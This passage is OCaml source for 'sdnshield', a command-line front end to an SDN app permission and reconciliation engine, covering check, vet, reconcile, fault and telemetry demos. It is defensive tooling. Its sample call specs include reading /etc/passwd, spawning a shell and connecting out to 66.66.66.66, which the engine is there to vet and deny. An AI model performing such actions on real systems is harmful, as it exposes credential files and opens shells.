(* sdnshield — command-line front end for the permission and
   reconciliation engines.

     sdnshield parse <manifest-file>
         Validate and pretty-print a permission manifest.

     sdnshield parse-policy <policy-file>
         Validate and pretty-print a security policy.

     sdnshield reconcile --app NAME <manifest-file> <policy-file>
         Run reconciliation and print the report and the final
         manifest.  Exits 1 when violations were found (after repair).

     sdnshield check <manifest-file> [CALL...]
         Compile the manifest and check call specs, e.g.:
           insert:1:10.0.0.1:100   (switch 1, dst IP, priority)
           delete:1:10.0.0.1
           stats:flow | stats:port | stats:switch
           pktout:1  pktout-replay:1
           net:66.66.66.66:80  file:/etc/passwd  spawn:sh
           topo  event:pkt_in

     sdnshield vet <manifest-file> [--policy <policy-file>] [--app NAME]
               [--max-steps N] [--max-clauses N] [--max-nodes N]
               [--max-depth N] [--deadline SECS]
         Vet an untrusted manifest (and optionally reconcile it against
         a policy) under a resource budget (docs/VETTING.md).  Exits 0
         when admitted — degraded verdicts print their fallback notes —
         and 1 when rejected.

     sdnshield lint <file> [--policy] [--json] [--deny SEV]
               [--disable RULE]... [--call SPEC]...
         Run shield-lint (docs/LINTING.md) over a manifest (or, with
         --policy, a policy) and print structured findings as text or
         SARIF-shaped JSON.  --call specs (check syntax) form a
         behaviour trace enabling the over-privilege audit.  Exits
         non-zero when any finding reaches the --deny severity
         (default error); --deny warn promotes warnings for CI.

     sdnshield verify <manifest-file> <policy-file> [--app NAME]
               [--json] [--deny] [budget flags as for vet]
         Reconcile and then certify the repaired manifest against every
         policy obligation (docs/VERIFY.md).  Refuted obligations carry
         concrete counterexample calls; --deny fails CI on anything but
         a certified verdict.

     sdnshield faults-demo [--events N] [--seed S]
         Drive the supervised isolated runtime under injected
         checker/kernel/deputy faults and print the fault-tolerance
         report (docs/RUNTIME.md).  Exits 1 if any call hung.

     sdnshield market-demo [--txns N] [--apps N] [--fault-*  P]
               [--json] [--timeline FILE]
         Run a seeded lifecycle churn script through the epoch market
         with full control-plane observability: prints the ledger,
         cross-checks the transaction-span trail against it, reports
         the health verdict during and after the faulted window, and
         optionally exports a Perfetto timeline (docs/CHURN.md,
         docs/OBSERVABILITY.md §5).

     sdnshield telemetry [--format text|json|prom] [--market]
         Run a seeded traced workload and export the unified telemetry
         snapshot; --market adds a churn phase plus its ledger and
         epoch history to the export.

     sdnshield timeline [--events N] [--txns N] [--out FILE]
         Export mediated calls and lifecycle transactions from a
         seeded run as Chrome trace_event JSON (open in Perfetto).

     sdnshield health [--txns N] [--seed S] [--json]
         Run clean / faulted / recovered churn phases against the
         sliding-window health monitor and print each phase verdict
         with causes.  Exits 1 unless the final verdict is healthy.

   All input files use the syntax of the paper's Appendices A and B. *)

open Cmdliner
open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Sdnshield

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

(* parse ---------------------------------------------------------------------- *)

let parse_cmd =
  let run path =
    match Perm_parser.manifest_of_string (read_file path) with
    | Ok m ->
      Fmt.pr "%a@." Perm.pp m;
      (match Perm.macros m with
      | [] -> `Ok ()
      | ms ->
        Fmt.pr "# unresolved stubs: %s@." (String.concat ", " ms);
        `Ok ())
    | Error e -> `Error (false, "parse error: " ^ e)
  in
  let path = Arg.(required & pos 0 (some file) None & info [] ~docv:"MANIFEST") in
  Cmd.v
    (Cmd.info "parse" ~doc:"Validate and pretty-print a permission manifest")
    Term.(ret (const run $ path))

let parse_policy_cmd =
  let run path =
    match Policy_parser.of_string (read_file path) with
    | Ok p ->
      Fmt.pr "%a@." Policy.pp p;
      `Ok ()
    | Error e -> `Error (false, "parse error: " ^ e)
  in
  let path = Arg.(required & pos 0 (some file) None & info [] ~docv:"POLICY") in
  Cmd.v
    (Cmd.info "parse-policy" ~doc:"Validate and pretty-print a security policy")
    Term.(ret (const run $ path))

(* reconcile ------------------------------------------------------------------- *)

let reconcile_cmd =
  let run app manifest_path policy_path =
    match
      Reconcile.run_strings ~app_name:app
        ~manifest_src:(read_file manifest_path)
        ~policy_src:(read_file policy_path)
    with
    | Error e -> `Error (false, e)
    | Ok (final, report) ->
      List.iter
        (fun v -> Fmt.pr "violation: %a@." Reconcile.pp_violation v)
        report.Reconcile.violations;
      List.iter
        (fun (a, ms) ->
          Fmt.pr "unresolved stubs in %s: %s@." a (String.concat ", " ms))
        report.Reconcile.unresolved_macros;
      Fmt.pr "# final permissions for %s@.%a@." app Perm.pp final;
      if Reconcile.ok report then `Ok ()
      else `Error (false, "policy violations were found (manifest repaired above)")
  in
  let app_arg =
    Arg.(value & opt string "app" & info [ "app" ] ~docv:"NAME" ~doc:"App name")
  in
  let manifest = Arg.(required & pos 0 (some file) None & info [] ~docv:"MANIFEST") in
  let policy = Arg.(required & pos 1 (some file) None & info [] ~docv:"POLICY") in
  Cmd.v
    (Cmd.info "reconcile"
       ~doc:"Reconcile an app manifest against a security policy")
    Term.(ret (const run $ app_arg $ manifest $ policy))

(* check ----------------------------------------------------------------------- *)

let call_of_spec spec : (Api.call, string) result =
  let fm ?(priority = 100) dst =
    Flow_mod.add ~priority
      ~match_:
        (Match_fields.make ~dl_type:Eth_ip
           ~nw_dst:(Match_fields.exact_ip (ipv4_of_string dst))
           ())
      ~actions:[ Action.Output 2 ] ()
  in
  match String.split_on_char ':' spec with
  | [ "insert"; dpid; dst ] ->
    Ok (Api.Install_flow (int_of_string dpid, fm dst))
  | [ "insert"; dpid; dst; prio ] ->
    Ok (Api.Install_flow (int_of_string dpid, fm ~priority:(int_of_string prio) dst))
  | [ "delete"; dpid; dst ] ->
    Ok
      (Api.Install_flow
         ( int_of_string dpid,
           Flow_mod.delete
             ~match_:
               (Match_fields.make ~nw_dst:(Match_fields.exact_ip (ipv4_of_string dst)) ())
             () ))
  | [ "stats"; "flow" ] -> Ok (Api.Read_stats (Stats.request Stats.Flow_level))
  | [ "stats"; "port" ] -> Ok (Api.Read_stats (Stats.request Stats.Port_level))
  | [ "stats"; "switch" ] -> Ok (Api.Read_stats (Stats.request Stats.Switch_level))
  | [ "pktout"; dpid ] ->
    Ok
      (Api.Send_packet_out
         { dpid = int_of_string dpid; port = 1;
           packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = false })
  | [ "pktout-replay"; dpid ] ->
    Ok
      (Api.Send_packet_out
         { dpid = int_of_string dpid; port = 1;
           packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = true })
  | [ "net"; ip; port ] ->
    Ok
      (Api.Syscall
         (Api.Net_connect
            { dst = ipv4_of_string ip; dst_port = int_of_string port; payload = "" }))
  | [ "file"; path ] -> Ok (Api.Syscall (Api.File_open { path; write = false }))
  | [ "spawn"; cmd ] -> Ok (Api.Syscall (Api.Spawn_process cmd))
  | [ "topo" ] -> Ok Api.Read_topology
  | [ "event"; "pkt_in" ] -> Ok (Api.Receive_event Api.E_packet_in)
  | [ "event"; "flow" ] -> Ok (Api.Receive_event Api.E_flow)
  | [ "event"; "topology" ] -> Ok (Api.Receive_event Api.E_topology)
  | _ -> Error (Printf.sprintf "bad call spec %S" spec)

let check_cmd =
  let run use_cache use_automaton explain manifest_path specs =
    match Perm_parser.manifest_of_string (read_file manifest_path) with
    | Error e -> `Error (false, "parse error: " ^ e)
    | Ok manifest -> (
      match Perm.macros manifest with
      | _ :: _ as ms ->
        `Error
          ( false,
            "manifest has unresolved stubs (" ^ String.concat ", " ms
            ^ "); reconcile first" )
      | [] ->
        let cache_size =
          if use_cache then Some Decision_cache.default_max_entries else None
        in
        let strategy = if use_automaton then `Automaton else `Interpreted in
        let engine =
          Engine.create ?cache_size ~strategy ~ownership:(Ownership.create ())
            ~app_name:"cli" ~cookie:1 manifest
        in
        (match Engine.automaton_stats engine with
        | Some s ->
          Fmt.pr "automaton: %d nodes (%d shared, %d collapsed) for %d tokens@."
            s.Automaton.nodes s.Automaton.shared s.Automaton.collapsed
            s.Automaton.tokens
        | None -> ());
        let had_error = ref false in
        List.iter
          (fun spec ->
            match call_of_spec spec with
            | Error e ->
              had_error := true;
              Fmt.pr "ERROR  %s@." e
            | Ok call ->
              if explain then begin
                let decision, info = Engine.check_explained engine call in
                (match decision with
                | Api.Allow -> Fmt.pr "ALLOW  %a@." Api.pp_call call
                | Api.Deny why ->
                  Fmt.pr "DENY   %a  (%s)@." Api.pp_call call why);
                (match info.Api.explain with
                | Some e -> Fmt.pr "       because: %s@." e
                | None -> ());
                if use_cache then
                  Fmt.pr "       served: %s@."
                    (Api.cache_outcome_to_string info.Api.cache)
              end
              else
                match Engine.check engine call with
                | Api.Allow -> Fmt.pr "ALLOW  %a@." Api.pp_call call
                | Api.Deny why ->
                  Fmt.pr "DENY   %a  (%s)@." Api.pp_call call why)
          specs;
        if use_cache then Fmt.pr "%a" Metrics.pp_cache_report ();
        if !had_error then `Error (false, "some call specs were invalid")
        else `Ok ())
  in
  let cache_arg =
    Arg.(
      value & flag
      & info [ "cache" ]
          ~doc:
            "Enable the decision cache on the checking engine and print \
             the cache hit/miss report after the calls.")
  in
  let automaton_arg =
    Arg.(
      value & flag
      & info [ "automaton" ]
          ~doc:
            "Compile the manifest into a flat decision automaton \
             (docs/AUTOMATON.md) and decide with it instead of \
             interpreting the filters; also prints the compiled DAG's \
             node and sharing counts.  Decisions are identical either \
             way — this flag trades compile time for per-check speed.")
  in
  let explain_arg =
    Arg.(
      value & flag
      & info [ "explain" ]
          ~doc:
            "Print, for each decision, which permission token and \
             top-level filter clause decided it (and, with $(b,--cache), \
             which cache level served it).")
  in
  let manifest = Arg.(required & pos 0 (some file) None & info [] ~docv:"MANIFEST") in
  let specs = Arg.(value & pos_right 0 string [] & info [] ~docv:"CALL") in
  Cmd.v
    (Cmd.info "check" ~doc:"Check API call specs against a manifest")
    Term.(
      ret (const run $ cache_arg $ automaton_arg $ explain_arg $ manifest $ specs))

(* vet ------------------------------------------------------------------------ *)

let vet_cmd =
  let run manifest_path policy_path app max_steps max_clauses max_nodes
      max_depth deadline =
    let d = Budget.default_limits in
    let limits =
      { Budget.max_steps = Option.value max_steps ~default:d.Budget.max_steps;
        max_clauses = Option.value max_clauses ~default:d.Budget.max_clauses;
        max_nodes = Option.value max_nodes ~default:d.Budget.max_nodes;
        max_depth = Option.value max_depth ~default:d.Budget.max_depth;
        deadline =
          (match deadline with Some _ -> deadline | None -> d.Budget.deadline) }
    in
    let manifest_src = read_file manifest_path in
    let print_lint (fs : Lint.finding list) =
      List.iter (fun f -> Fmt.pr "lint: @[<v>%a@]@." Lint.pp_finding f) fs
    in
    let finish label notes rejection =
      List.iter (fun n -> Fmt.pr "note: %s@." n) notes;
      (match rejection with
      | Some r -> Fmt.epr "%a@." Vetting.pp_rejection r
      | None -> ());
      match label with
      | "rejected" ->
        Fmt.epr "verdict: rejected@.";
        exit 1
      | "degraded" ->
        Fmt.pr "verdict: degraded — admitted with conservative fallbacks@.";
        `Ok ()
      | _ ->
        Fmt.pr "verdict: admitted@.";
        `Ok ()
    in
    match policy_path with
    | None -> (
      match Vetting.vet_manifest ~limits manifest_src with
      | Vetting.Admitted { value = m; lint; _ } ->
        Fmt.pr "%a@." Perm.pp m;
        print_lint lint;
        finish "admitted" [] None
      | Vetting.Degraded ({ value = m; lint; _ }, notes) ->
        Fmt.pr "%a@." Perm.pp m;
        print_lint lint;
        finish "degraded" notes None
      | Vetting.Rejected r -> finish "rejected" [] (Some r))
    | Some policy_path -> (
      let policy_src = read_file policy_path in
      let print_report (report : Reconcile.report) =
        List.iter
          (fun v -> Fmt.pr "violation: %a@." Reconcile.pp_violation v)
          report.Reconcile.violations;
        match List.assoc_opt app report.Reconcile.manifests with
        | Some m -> Fmt.pr "# reconciled permissions for %s@.%a@." app Perm.pp m
        | None -> ()
      in
      match
        Vetting.vet_and_reconcile ~limits
          ~apps:[ (app, manifest_src) ]
          policy_src
      with
      | Vetting.Admitted { value = report; lint; _ } ->
        print_report report;
        print_lint lint;
        finish "admitted" [] None
      | Vetting.Degraded ({ value = report; lint; _ }, notes) ->
        print_report report;
        print_lint lint;
        finish "degraded" notes None
      | Vetting.Rejected r -> finish "rejected" [] (Some r))
  in
  let manifest =
    Arg.(required & pos 0 (some file) None & info [] ~docv:"MANIFEST")
  in
  let policy =
    Arg.(
      value
      & opt (some file) None
      & info [ "policy" ] ~docv:"POLICY"
          ~doc:"Also vet this policy and run reconciliation under the budget.")
  in
  let app_arg =
    Arg.(value & opt string "app" & info [ "app" ] ~docv:"NAME" ~doc:"App name")
  in
  let opt_int names doc =
    Arg.(value & opt (some int) None & info names ~docv:"N" ~doc)
  in
  let max_steps = opt_int [ "max-steps" ] "Work-tick budget." in
  let max_clauses = opt_int [ "max-clauses" ] "Clause-allocation budget." in
  let max_nodes = opt_int [ "max-nodes" ] "Macro-expansion node budget." in
  let max_depth = opt_int [ "max-depth" ] "Nesting-depth budget." in
  let deadline =
    Arg.(
      value
      & opt (some float) None
      & info [ "deadline" ] ~docv:"SECONDS" ~doc:"Wall-clock budget.")
  in
  Cmd.v
    (Cmd.info "vet"
       ~doc:
         "Vet an untrusted manifest (and optionally a policy) under a \
          resource budget (docs/VETTING.md); exits 0 on \
          admitted/degraded, 1 on rejected")
    Term.(
      ret
        (const run $ manifest $ policy $ app_arg $ max_steps $ max_clauses
       $ max_nodes $ max_depth $ deadline))

(* faults-demo ---------------------------------------------------------------- *)

let faults_demo_cmd =
  let run events seed =
    let open Shield_net in
    let kernel = Kernel.create (Dataplane.create (Topology.linear 4)) in
    let replies = ref 0 and handled = ref 0 in
    let app =
      App.make
        ~subscriptions:[ Api.E_packet_in ]
        ~handle:(fun ctx ev ->
          match ev with
          | Events.Packet_in pi ->
            incr handled;
            let fm =
              Flow_mod.add
                ~match_:
                  (Match_fields.make ~tp_dst:(1024 + (!handled mod 64)) ())
                ~actions:[ Action.Output 1 ] ()
            in
            ignore (ctx.App.call (Api.Install_flow (pi.Message.dpid, fm)));
            incr replies
          | _ -> ())
        "demo"
    in
    let config =
      { Runtime.default_config with
        Runtime.call_deadline = Some 0.1;
        restart_budget = 1_000;
        ev_capacity = Some 256;
        req_capacity = Some 1_024 }
    in
    Faults.configure ~seed ~checker:0.02 ~kernel:0.02 ~deputy:0.01 ();
    let rt =
      Fun.protect ~finally:Faults.disarm (fun () ->
          let rt =
            Runtime.create ~config
              ~mode:(Runtime.Isolated { ksd_threads = 2 })
              kernel
              [ (app, Faults.wrap_checker Api.allow_all) ]
          in
          for i = 1 to events do
            Runtime.feed rt
              (Events.Packet_in
                 { Message.dpid = 1 + (i mod 4); in_port = 1;
                   packet = Packet.arp ~src:0xA ~dst:0xB ();
                   reason = Message.No_match; buffer_id = None })
          done;
          Runtime.drain rt;
          rt)
    in
    Fmt.pr "%a" Runtime.pp_report rt;
    Fmt.pr "%a" Faults.pp_report ();
    Runtime.shutdown rt;
    if !handled <> !replies then
      `Error
        ( false,
          Printf.sprintf "%d handled events but %d replies — a call hung"
            !handled !replies )
    else begin
      Fmt.pr "handled=%d — every call got a reply@." !handled;
      `Ok ()
    end
  in
  let events =
    Arg.(
      value & opt int 2_000
      & info [ "events" ] ~docv:"N" ~doc:"Packet-in events to inject.")
  in
  let seed =
    Arg.(
      value & opt int 7
      & info [ "seed" ] ~docv:"SEED"
          ~doc:"Fault-schedule seed (schedules are deterministic per seed).")
  in
  Cmd.v
    (Cmd.info "faults-demo"
       ~doc:
         "Drive the supervised isolated runtime under injected \
          checker/kernel/deputy faults and print the fault-tolerance report \
          (docs/RUNTIME.md)")
    Term.(ret (const run $ events $ seed))

(* market-demo ---------------------------------------------------------------- *)

(* A live-update churn demo (docs/CHURN.md): a seeded install / upgrade
   / revoke script runs through the market queue against an epoch-based
   deployment, optionally with the mid-swap fault sites armed, and the
   epoch history prints as a ledger (or JSON).  The structural epoch
   invariants are re-checked after every transaction; any violation —
   a torn publish, a rollback that moved the epoch — exits 1. *)
let market_demo_cmd =
  let run txns apps invalid seed fault_verify fault_compile fault_publish json
      timeline_out =
    let t =
      match Epoch.create ~policy:"" () with
      | Ok t -> t
      | Error e -> failwith ("policy rejected: " ^ e)
    in
    let sandbox = Sandbox.create () in
    (* Full observability wiring (docs/OBSERVABILITY.md): every
       transaction leaves a span, every injected fault feeds the
       health monitor (through the fault-site observer), every
       rollback captures a flight-recorder bundle.  The health clock
       is manual so the post-run recovery check is deterministic. *)
    let trace = Trace.create ~txn_capacity:(max 1024 txns) () in
    let hclock = ref 0. in
    let health = Health.create ~clock:(fun () -> !hclock) () in
    let flight = Forensics.Flight.create ~trace () in
    Faults.set_observer (fun _ -> Health.fault health);
    let m = Epoch.market ~sandbox ~trace ~health ~flight t in
    let script =
      Shield_workload.Churn_gen.script ~seed ~apps ~invalid_fraction:invalid
        ~length:txns ()
    in
    let faulted = fault_verify +. fault_compile +. fault_publish > 0. in
    if faulted then
      Faults.configure ~seed ~swap_verify:fault_verify
        ~swap_compile:fault_compile ~swap_publish:fault_publish ();
    let inconsistent = ref [] in
    Fun.protect
      ~finally:(fun () ->
        Faults.disarm ();
        Faults.clear_observer ())
      (fun () ->
        List.iter
          (fun (e : Shield_workload.Churn_gen.entry) ->
            let id = (Market.stats m).Market.submitted + 1 in
            ignore (Market.submit m e.Shield_workload.Churn_gen.request);
            if not (Epoch.consistent t) then inconsistent := id :: !inconsistent)
          script);
    Market.shutdown m;
    let ledger = Market.history m in
    let stats = Market.stats m in
    (* Health before and after the window slides past the run: armed
       faults must degrade the verdict, and disarming must let it
       recover once the incident ages out. *)
    let v_during = Health.verdict health in
    hclock := !hclock +. Health.window health +. 1.;
    let v_after = Health.verdict health in
    (* The span trail is the ledger, re-derived from the trace ring:
       every transaction id must be present with the same commit /
       rollback verdict, the same failed stage, the same epoch. *)
    let trail = Trace.txn_spans trace in
    let span_by_id = Hashtbl.create (List.length trail) in
    List.iter
      (fun (s : Trace.txn_span) -> Hashtbl.replace span_by_id s.Trace.id s)
      trail;
    let mismatches =
      List.filter_map
        (fun (txn : Market.txn) ->
          let fail why = Some (txn.Market.id, why) in
          match Hashtbl.find_opt span_by_id txn.Market.id with
          | None -> fail "no transaction span"
          | Some s -> (
            match (txn.Market.outcome, s.Trace.verdict) with
            | Market.Committed { epoch; _ }, Trace.Txn_committed _ ->
              if s.Trace.epoch_after <> epoch then
                fail
                  (Printf.sprintf "epoch mismatch: span %d, ledger %d"
                     s.Trace.epoch_after epoch)
              else None
            | Market.Rolled_back { stage; _ }, Trace.Txn_rolled_back v ->
              if v.stage <> stage then
                fail
                  (Printf.sprintf "stage mismatch: span %s, ledger %s" v.stage
                     stage)
              else None
            | Market.Committed _, Trace.Txn_rolled_back _ ->
              fail "span rolled back, ledger committed"
            | Market.Rolled_back _, Trace.Txn_committed _ ->
              fail "span committed, ledger rolled back"))
        ledger
    in
    let bundles = Forensics.Flight.bundles flight in
    (match timeline_out with
    | None -> ()
    | Some path ->
      let oc = open_out path in
      Fun.protect
        ~finally:(fun () -> close_out_noerr oc)
        (fun () -> output_string oc (Timeline.to_string trace)));
    (if json then
       let module J = Telemetry.Json in
       let txn_json (txn : Market.txn) =
         let base =
           [ ("id", J.Num (float_of_int txn.Market.id));
             ("kind", J.Str (Market.kind_to_string txn.Market.request.Market.kind));
             ("app", J.Str txn.Market.request.Market.app) ]
         in
         match txn.Market.outcome with
         | Market.Committed { epoch; delta; republished; _ } ->
           J.Obj
             (base
             @ [ ("outcome", J.Str "committed");
                 ("epoch", J.Num (float_of_int epoch));
                 ("delta", J.Bool delta);
                 ("republished", J.Arr (List.map (fun a -> J.Str a) republished))
               ])
         | Market.Rolled_back { stage; reason; epoch; _ } ->
           J.Obj
             (base
             @ [ ("outcome", J.Str "rolled_back");
                 ("stage", J.Str stage);
                 ("reason", J.Str reason);
                 ("epoch", J.Num (float_of_int epoch)) ])
       in
       Fmt.pr "%s@."
         (J.to_string
            (J.Obj
               [ ("epoch_history", J.Arr (List.map txn_json ledger));
                 ("final_epoch", J.Num (float_of_int (Epoch.epoch t)));
                 ("live_apps", J.Num (float_of_int (List.length (Epoch.apps t))));
                 ("commits", J.Num (float_of_int stats.Market.commits));
                 ("rollbacks", J.Num (float_of_int stats.Market.rollbacks));
                 ( "faults_injected",
                   J.Obj
                     (List.map
                        (fun (name, n) -> (name, J.Num (float_of_int n)))
                        (Faults.report ())) );
                 ("consistent", J.Bool (!inconsistent = []));
                 ("txn_spans", J.Num (float_of_int (List.length trail)));
                 ("span_trail_consistent", J.Bool (mismatches = []));
                 ( "health_during",
                   J.Str (Health.status_to_string v_during.Health.status) );
                 ( "health_after",
                   J.Str (Health.status_to_string v_after.Health.status) );
                 ("flight_bundles", J.Num (float_of_int (List.length bundles)));
                 ( "flight_stages",
                   J.Arr
                     (List.filter_map
                        (fun (b : Forensics.Flight.bundle) ->
                          match b.Forensics.Flight.txn with
                          | Some { Trace.verdict = Trace.Txn_rolled_back v; _ }
                            ->
                            Some (J.Str v.stage)
                          | _ -> None)
                        bundles) ) ]))
     else begin
       List.iter (fun txn -> Fmt.pr "%a@." Market.pp_txn txn) ledger;
       Fmt.pr "@.final epoch=%d live apps=%d commits=%d rollbacks=%d@."
         (Epoch.epoch t)
         (List.length (Epoch.apps t))
         stats.Market.commits stats.Market.rollbacks;
       Fmt.pr "txn spans=%d trail=%s flight bundles=%d@." (List.length trail)
         (if mismatches = [] then "consistent" else "MISMATCHED")
         (List.length bundles);
       Fmt.pr "health during run: %a@." Health.pp_verdict v_during;
       Fmt.pr "health after window: %a@." Health.pp_verdict v_after;
       if faulted then Fmt.pr "%a" Faults.pp_report ()
     end);
    Epoch.close t;
    let fail = ref false in
    if !inconsistent <> [] then begin
      Fmt.epr "epoch invariants violated after transaction(s): %s@."
        (String.concat ", "
           (List.rev_map string_of_int !inconsistent));
      fail := true
    end;
    if mismatches <> [] then begin
      List.iter
        (fun (id, why) ->
          Fmt.epr "span trail mismatch at transaction %d: %s@." id why)
        mismatches;
      fail := true
    end;
    let injected =
      List.exists (fun (_, n) -> n > 0) (Faults.report ())
    in
    if injected then begin
      if v_during.Health.status = Health.Healthy then begin
        Fmt.epr "health did not degrade despite injected faults@.";
        fail := true
      end;
      if v_after.Health.status <> Health.Healthy then begin
        Fmt.epr "health did not recover after the window slid past@.";
        fail := true
      end;
      if bundles = [] && stats.Market.rollbacks > 0 then begin
        Fmt.epr "rollbacks occurred but no flight bundle was captured@.";
        fail := true
      end
    end;
    if !fail then exit 1;
    `Ok ()
  in
  let txns =
    Arg.(
      value & opt int 40
      & info [ "txns" ] ~docv:"N" ~doc:"Lifecycle transactions to run.")
  in
  let apps =
    Arg.(
      value & opt int 12
      & info [ "apps" ] ~docv:"N" ~doc:"App pool the script churns over.")
  in
  let invalid =
    Arg.(
      value & opt float 0.15
      & info [ "invalid" ] ~docv:"FRAC"
          ~doc:
            "Fraction of requests built to roll back (wrong lifecycle state \
             or a manifest vetting refuses).")
  in
  let seed =
    Arg.(
      value & opt int 11
      & info [ "seed" ] ~docv:"SEED"
          ~doc:"Script and fault-schedule seed (runs are deterministic).")
  in
  let fault p doc =
    Arg.(value & opt float 0. & info [ "fault-" ^ p ] ~docv:"PROB" ~doc)
  in
  let fault_verify =
    fault "verify" "Probability of an injected fault mid-verify (per swap)."
  in
  let fault_compile =
    fault "compile" "Probability of an injected fault mid-compile (per swap)."
  in
  let fault_publish =
    fault "publish"
      "Probability of an injected fault mid-publish (after some slots already \
       swapped — exercises the undo path)."
  in
  let json =
    Arg.(
      value & flag
      & info [ "json" ]
          ~doc:"Emit the epoch history and summary as JSON instead of text.")
  in
  let timeline_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "timeline" ] ~docv:"FILE"
          ~doc:
            "Also write the run's Chrome trace_event timeline (Perfetto / \
             chrome://tracing loadable) to $(docv).")
  in
  Cmd.v
    (Cmd.info "market-demo"
       ~doc:
         "Run a seeded app-market churn script (install/upgrade/revoke) \
          through the epoch-based live-update pipeline, optionally with \
          mid-swap faults armed, and print the epoch history \
          (docs/CHURN.md).  The run is fully observed: transaction spans, \
          the sliding-window health verdict (during the run and after the \
          window slides past) and flight-recorder bundles per rollback.  \
          Exits 1 if any transaction leaves the deployment's epoch \
          invariants violated, if the span trail disagrees with the \
          ledger, or if injected faults fail to degrade (and then \
          release) the health verdict")
    Term.(
      ret
        (const run $ txns $ apps $ invalid $ seed $ fault_verify
       $ fault_compile $ fault_publish $ json $ timeline_out))

(* telemetry ------------------------------------------------------------------ *)

(* A self-contained traced run, shared by `telemetry` and `timeline`:
   an engine-guarded app on the isolated runtime, issuing a mix of
   allowed and denied calls, so the snapshot (and the call track of a
   timeline export) has something in every section — histograms, cache
   counters, queue gauges, fault counters and span accounting. *)
let run_traced_calls ~trace ?health ~events () =
  let demo_manifest =
    "PERM insert_flow LIMITING MAX_PRIORITY 400 AND OWN_FLOWS\n\
     PERM pkt_in_event\nPERM read_payload"
  in
  let open Shield_net in
  let kernel = Kernel.create (Dataplane.create (Topology.linear 4)) in
  let handled = ref 0 in
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx ev ->
        match ev with
        | Events.Packet_in pi ->
          incr handled;
          (* Every 4th call breaches the MAX_PRIORITY 400 bound, so
             the trace carries explained denials. *)
          let priority = if !handled mod 4 = 0 then 1_000 else 100 in
          let fm =
            Flow_mod.add ~priority
              ~match_:(Match_fields.make ~tp_dst:(1024 + (!handled mod 16)) ())
              ~actions:[ Action.Output 1 ] ()
          in
          ignore (ctx.App.call (Api.Install_flow (pi.Message.dpid, fm)))
        | _ -> ())
      "demo"
  in
  let ownership = Ownership.create () in
  let engine =
    Engine.create ~cache_size:Decision_cache.default_max_entries ~ownership
      ~app_name:"demo" ~cookie:1
      (Perm_parser.manifest_exn demo_manifest)
  in
  let config =
    { Runtime.default_config with Runtime.trace = Some trace; health }
  in
  let rt =
    Runtime.create ~config
      ~mode:(Runtime.Isolated { ksd_threads = 2 })
      kernel
      [ (app, Engine.checker engine) ]
  in
  for i = 1 to events do
    Runtime.feed rt
      (Events.Packet_in
         { Message.dpid = 1 + (i mod 4); in_port = 1;
           packet = Packet.arp ~src:0xA ~dst:0xB ();
           reason = Message.No_match; buffer_id = None })
  done;
  Runtime.drain rt;
  let snap = Runtime.telemetry rt in
  Runtime.shutdown rt;
  Metrics.unregister_cache "engine:demo";
  snap

(* A churn script through a market wired to [trace] (and optionally
   [health]): populates the transaction track of a timeline export and
   the `--market` section of the telemetry report. *)
let run_traced_churn ~trace ?health ~txns ~apps ~invalid ~seed () =
  let t =
    match Epoch.create ~policy:"" () with
    | Ok t -> t
    | Error e -> failwith ("policy rejected: " ^ e)
  in
  let m = Epoch.market ~trace ?health t in
  let script =
    Shield_workload.Churn_gen.script ~seed ~apps ~invalid_fraction:invalid
      ~length:txns ()
  in
  List.iter
    (fun (e : Shield_workload.Churn_gen.entry) ->
      ignore (Market.submit m e.Shield_workload.Churn_gen.request))
    script;
  Market.shutdown m;
  let ledger = Market.history m in
  let final_epoch = Epoch.epoch t in
  let live_apps = List.length (Epoch.apps t) in
  Epoch.close t;
  (ledger, final_epoch, live_apps)

let telemetry_cmd =
  let run format events spans_to_show market =
    let trace = Trace.create ~capacity:4096 () in
    let health = Health.create () in
    let market_section =
      if market then
        Some (run_traced_churn ~trace ~health ~txns:40 ~apps:12 ~invalid:0.15 ~seed:11 ())
      else None
    in
    let snap = run_traced_calls ~trace ~health ~events () in
    let module J = Telemetry.Json in
    let market_json (ledger, final_epoch, live_apps) =
      let txn_json (txn : Market.txn) =
        let base =
          [ ("id", J.Num (float_of_int txn.Market.id));
            ("kind", J.Str (Market.kind_to_string txn.Market.request.Market.kind));
            ("app", J.Str txn.Market.request.Market.app) ]
        in
        match txn.Market.outcome with
        | Market.Committed { epoch; delta; _ } ->
          J.Obj
            (base
            @ [ ("outcome", J.Str "committed");
                ("epoch", J.Num (float_of_int epoch));
                ("delta", J.Bool delta) ])
        | Market.Rolled_back { stage; reason; epoch; _ } ->
          J.Obj
            (base
            @ [ ("outcome", J.Str "rolled_back"); ("stage", J.Str stage);
                ("reason", J.Str reason);
                ("epoch", J.Num (float_of_int epoch)) ])
      in
      J.Obj
        [ ("ledger", J.Arr (List.map txn_json ledger));
          ( "epoch_history",
            J.Arr
              (List.filter_map
                 (fun (txn : Market.txn) ->
                   match txn.Market.outcome with
                   | Market.Committed { epoch; _ } ->
                     Some (J.Num (float_of_int epoch))
                   | Market.Rolled_back _ -> None)
                 ledger) );
          ("final_epoch", J.Num (float_of_int final_epoch));
          ("live_apps", J.Num (float_of_int live_apps)) ]
    in
    let json_doc () =
      match market_section with
      | None -> Telemetry.to_json snap
      | Some section ->
        J.to_string
          (J.Obj
             [ ("telemetry", Telemetry.to_json_value snap);
               ("market", market_json section) ])
    in
    let pp_market_text () =
      match market_section with
      | None -> ()
      | Some (ledger, final_epoch, live_apps) ->
        Fmt.pr "# --- market ---@.";
        List.iter (fun txn -> Fmt.pr "%a@." Market.pp_txn txn) ledger;
        Fmt.pr "epoch history: %s@."
          (String.concat " -> "
             ("0"
             :: List.filter_map
                  (fun (txn : Market.txn) ->
                    match txn.Market.outcome with
                    | Market.Committed { epoch; _ } ->
                      Some (string_of_int epoch)
                    | Market.Rolled_back _ -> None)
                  ledger));
        Fmt.pr "final epoch=%d live apps=%d@." final_epoch live_apps
    in
    (match format with
    | "json" -> Fmt.pr "%s@." (json_doc ())
    | "prometheus" -> Fmt.pr "%s" (Telemetry.to_prometheus snap)
    | "text" ->
      Fmt.pr "%a" Telemetry.pp snap;
      pp_market_text ()
    | _ ->
      Fmt.pr "# --- text ---@.%a" Telemetry.pp snap;
      pp_market_text ();
      Fmt.pr "# --- json ---@.%s@." (json_doc ());
